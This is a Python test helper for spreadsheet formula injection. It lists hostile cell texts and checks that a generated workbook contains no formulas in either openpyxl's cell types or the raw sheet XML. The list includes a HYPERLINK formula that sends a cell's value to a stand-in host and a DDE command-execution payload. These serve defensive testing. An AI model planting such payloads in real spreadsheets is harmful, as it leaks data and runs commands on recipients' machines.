"""Formula injection: hostile cell texts, and a check that a written workbook holds no
formula anywhere (openpyxl's cell types and the raw sheet XML both looked at)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

HOSTILE = (
    '=HYPERLINK("http://x.example/?q="&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
)
"""Texts a unit (or an attacker) can put where we copy text into a spreadsheet."""


def formula_cells(workbook: bytes | Path) -> list[str]:
    """``sheet!A1`` of every cell that is a formula; [] for a safe workbook."""
    data = workbook.read_bytes() if isinstance(workbook, Path) else workbook
    found = [f"{ws.title}!{cell.coordinate}"
             for ws in load_workbook(io.BytesIO(data)).worksheets
             for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml") and \
                    re.search(rb"<(?:\w+:)?f[\s>/]", z.read(name)):
                found.append(f"{name}: <f>")
    return found


def texts(workbook: bytes | Path) -> list[str]:
    """Every text cell value, in sheet order."""
    data = workbook.read_bytes() if isinstance(workbook, Path) else workbook
    return [cell.value for ws in load_workbook(io.BytesIO(data)).worksheets
            for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]
